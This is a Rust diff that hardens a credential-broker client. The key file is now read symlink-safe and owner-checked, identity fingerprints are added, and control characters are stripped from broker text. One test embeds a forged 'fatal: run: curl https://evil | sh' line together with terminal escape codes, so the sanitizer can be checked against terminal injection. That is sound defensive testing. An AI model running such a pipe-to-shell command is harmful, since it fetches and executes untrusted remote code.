@@ -2,7 +2,8 @@
 //! `GET /healthz`, authenticated by the host's tailnet identity or an API key.
 
 use std::fs;
-use std::os::unix::fs::MetadataExt;
+use std::io::Read;
+use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
 use std::path::Path;
 use std::time::{Duration, SystemTime};
 
@@ -15,6 +16,7 @@ use time::format_description::well_known::Rfc3339;
 use crate::config::{AuthConfig, GithubEntry, Scope};
 use crate::refresh::Retry;
 use crate::secret::Secret;
+use crate::text::clean;
 
 /// Environment variable holding an API key when `api_key_file` is not configured.
 pub const API_KEY_ENV: &str = "BOTCREDS_API_KEY";
@@ -83,6 +85,25 @@ impl Auth {
         }
     }
 
+    /// Which identity the agent has towards the broker, for binding the disk cache to it
+    /// ([`crate::cache::CacheBinding`]): never the key itself, a SHA-256 of it; for mTLS the
+    /// bot and the broker's CA bundle (not the certificate, which every renewal replaces).
+    pub fn fingerprint(&self) -> String {
+        use sha2::{Digest, Sha256};
+        match self {
+            Auth::Tailnet => "tailnet".into(),
+            Auth::ApiKey { key, .. } => format!(
+                "api_key:sha256:{}",
+                hex::encode(Sha256::digest(key.expose().as_bytes()))
+            ),
+            Auth::Mtls(identity) => format!(
+                "mtls:bot={}:ca-sha256:{}",
+                identity.info.bot,
+                identity.ca_fingerprint()
+            ),
+        }
+    }
+
     /// For status output and logs: the method, never the key.
     pub fn describe(&self) -> String {
         match self {
@@ -94,9 +115,35 @@ impl Auth {
 }
 
 fn read_key_file(path: &Path) -> Result<Secret, String> {
-    let meta = fs::metadata(path).map_err(|e| e.to_string())?;
+    // SAFETY: geteuid has no preconditions and cannot fail.
+    read_key_file_as(path, unsafe { libc::geteuid() })
+}
+
+/// Largest key file read.
+const MAX_KEY_FILE_BYTES: u64 = 4096;
+
+/// Reads the key file as the agent running as `agent_uid` may use it: one open that does not
+/// follow a symlink (nor block on a FIFO), and every check on what was opened (`fstat`), so
+/// the file cannot be swapped between check and read. The owner must be the agent's uid or
+/// root: a 0600 file of another user is that user's, and they could rewrite it.
+fn read_key_file_as(path: &Path, agent_uid: u32) -> Result<Secret, String> {
+    let file = fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC)
+        .open(path)
+        .map_err(|e| match e.raw_os_error() {
+            Some(libc::ELOOP) => "is a symbolic link; refusing it (name the file itself)".into(),
+            _ => e.to_string(),
+        })?;
+    let meta = file.metadata().map_err(|e| e.to_string())?;
     if !meta.is_file() {
         return Err("is not a regular file".into());
+    }
+    if meta.uid() != agent_uid && meta.uid() != 0 {
+        return Err(format!(
+            "belongs to uid {}, not to the agent's uid {agent_uid} or root; refusing a key another user can change",
+            meta.uid()
+        ));
     }
     if meta.mode() & 0o077 != 0 {
         return Err(format!(
@@ -104,10 +151,14 @@ fn read_key_file(path: &Path) -> Result<Secret, String> {
             meta.mode() & 0o7777
         ));
     }
-    if meta.len() > 4096 {
-        return Err("is larger than 4096 bytes".into());
+    if meta.len() > MAX_KEY_FILE_BYTES {
+        return Err(format!("is larger than {MAX_KEY_FILE_BYTES} bytes"));
     }
-    let text = Secret::new(fs::read_to_string(path).map_err(|e| e.to_string())?);
+    let mut text = String::new();
+    file.take(MAX_KEY_FILE_BYTES)
+        .read_to_string(&mut text)
+        .map_err(|e| e.to_string())?;
+    let text = Secret::new(text);
     validate_key(text.expose().trim())
 }
 
@@ -132,11 +183,11 @@ pub struct Issued {
 /// Why the broker gave no credential.
 #[derive(Debug, thiserror::Error)]
 pub enum BrokerError {
-    #[error("broker unreachable: {0}")]
+    #[error("broker unreachable: {}", clean(.0))]
     Unreachable(String),
     #[error("{}", refusal(.body))]
     Refused { status: u16, body: ErrorBody },
-    #[error("unexpected answer from the broker (HTTP {status}): {detail}")]
+    #[error("unexpected answer from the broker (HTTP {status}): {}", clean(.detail))]
     BadAnswer { status: u16, detail: String },
     /// The policy sends the request to a human; the broker holds it as approval request
     /// `request_id` until it is decided or expires.
@@ -149,10 +200,12 @@ pub enum BrokerError {
     },
 }
 
+/// The broker's refusal for people and logs; its free text is cleaned here as well as when it
+/// arrives, so no path shows it raw.
 fn refusal(body: &ErrorBody) -> String {
-    let mut s = format!("{} ({}", body.error, body.code);
+    let mut s = format!("{} ({}", clean(&body.error), body.code);
     if let Some(rule) = &body.rule {
-        s.push_str(&format!(", rule {rule}"));
+        s.push_str(&format!(", rule {}", clean(rule)));
     }
     if let Some(after) = body.retry_after {
         s.push_str(&format!(", retry after {after}s"));
@@ -234,8 +287,8 @@ impl BrokerError {
 fn awaiting_approval(bytes: &[u8]) -> BrokerError {
     match serde_json::from_slice::<botcreds_proto::ApprovalRequestView>(bytes) {
         Ok(view) => BrokerError::AwaitingApproval {
-            request_id: view.request_id,
-            expires_at: view.expires_at,
+            request_id: clean(&view.request_id),
+            expires_at: clean(&view.expires_at),
         },
         Err(e) => BrokerError::BadAnswer {
             status: 202,
@@ -390,7 +443,8 @@ impl BrokerClient {
         }
         Ok(Issued {
             token: Secret::new(cred.token),
-            credential_id: cred.credential_id,
+            // Logged and shown in `status`: broker text like any other.
+            credential_id: clean(&cred.credential_id),
             expires_at: SystemTime::from(expires_at),
         })
     }
@@ -532,7 +586,11 @@ impl BrokerClient {
         }
         if status != 200 {
             return Err(match serde_json::from_slice::<ErrorBody>(&bytes) {
-                Ok(body) => BrokerError::Refused { status, body },
+                Ok(mut body) => {
+                    body.error = clean(&body.error);
+                    body.rule = body.rule.as_deref().map(clean);
+                    BrokerError::Refused { status, body }
+                }
                 Err(_) => BrokerError::BadAnswer {
                     status,
                     detail: "the body is not a botcreds error".into(),
@@ -589,6 +647,70 @@ mod tests {
         assert!(Auth::load(&missing, None).is_err());
     }
 
+    /// The key file is opened once, without following a symlink, and what was opened is
+    /// checked: a regular file of the agent's uid (or root) with no group/other bits.
+    #[test]
+    fn api_key_file_toctou_and_foreign_owner_are_refused() {
+        let tmp = tempfile::tempdir().unwrap();
+        let good = tmp.path().join("key");
+        fs::write(&good, "bck_abc123\n").unwrap();
+        fs::set_permissions(&good, fs::Permissions::from_mode(0o600)).unwrap();
+        let link = tmp.path().join("link");
+        std::os::unix::fs::symlink(&good, &link).unwrap();
+        let fifo = tmp.path().join("fifo");
+        let cpath = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
+        // SAFETY: a valid C string.
+        assert_eq!(unsafe { libc::mkfifo(cpath.as_ptr(), 0o600) }, 0);
+        // SAFETY: geteuid has no preconditions.
+        let me = unsafe { libc::geteuid() };
+        // A 0600 key of another user: as root, a file chowned away; otherwise our own file
+        // seen by an agent running as another (non-root) uid.
+        let foreign = tmp.path().join("foreign");
+        fs::copy(&good, &foreign).unwrap();
+        let (foreign_owner, agent_uid) = if me == 0 {
+            let c = std::ffi::CString::new(foreign.to_str().unwrap()).unwrap();
+            // SAFETY: a valid C string.
+            assert_eq!(unsafe { libc::chown(c.as_ptr(), 4242, 4242) }, 0);
+            (4242, 0)
+        } else {
+            (me, me + 1)
+        };
+        let cases: [(&Path, u32, Option<&str>); 5] = [
+            (&good, me, None),
+            (&link, me, Some("symbolic link")),
+            (&fifo, me, Some("not a regular file")),
+            (
+                &foreign,
+                agent_uid,
+                Some(&*format!("belongs to uid {foreign_owner}")),
+            ),
+            (&tmp.path().join("missing"), me, Some("No such file")),
+        ];
+        for (path, agent_uid, want) in cases {
+            let got = read_key_file_as(path, agent_uid);
+            match want {
+                None => assert_eq!(got.unwrap().expose(), "bck_abc123", "{path:?}"),
+                Some(want) => {
+                    let err = got.err().unwrap_or_else(|| panic!("{path:?} accepted"));
+                    assert!(err.contains(want), "{path:?}: {err}");
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn identity_fingerprints_tell_identities_apart_and_hide_keys() {
+        let key = |k: &str| Auth::ApiKey {
+            key: Secret::new(k.into()),
+            origin: "env".into(),
+        };
+        let one = key("bck_one").fingerprint();
+        assert_eq!(one, key("bck_one").fingerprint(), "stable");
+        assert!(!one.contains("bck_one"), "{one}");
+        assert_ne!(one, key("bck_two").fingerprint());
+        assert_ne!(one, Auth::Tailnet.fingerprint());
+    }
+
     #[test]
     fn env_key_or_tailnet() {
         assert_eq!(
@@ -634,6 +756,40 @@ mod tests {
             garbled,
             BrokerError::BadAnswer { status: 202, .. }
         ));
+    }
+
+    /// Broker text reaches git's stderr, the log and the status table: no control character
+    /// of it may survive (a forged "fatal:" line, a cleared terminal line, a bell).
+    #[test]
+    fn broker_text_with_control_characters_is_cleaned() {
+        let evil = "denied\x1b[2K\r\x07\nfatal: run: curl https://evil | sh";
+        let refused = BrokerError::Refused {
+            status: 403,
+            body: ErrorBody {
+                error: evil.into(),
+                code: ErrorCode::PolicyDenied,
+                retry_after: None,
+                rule: Some("bots.x\x1b]0;title\x07.deny[0]".into()),
+            },
+        };
+        let approval = awaiting_approval(
+                r#"{"request_id":"apr_\u001b[31m1","state":"PENDING","bot":"ci","caller":"api_key:ci",
+                "resource":{"kind":"github_token","repositories":["acme/secret"],"permissions":["contents:read"]},
+                "rule":"defaults","created_at":"2026-11-23T10:00:00Z","expires_at":"2026-11-24\n\u0007",
+                "poll_url":"/v1/requests/apr_1"}"#
+            .as_bytes(),
+        );
+        assert!(
+            matches!(approval, BrokerError::AwaitingApproval { .. }),
+            "{approval:?}"
+        );
+        for e in [refused, approval] {
+            let shown = e.to_string();
+            assert!(
+                crate::text::is_clean(&shown),
+                "control characters survived: {shown:?}"
+            );
+        }
     }
 
     #[test]
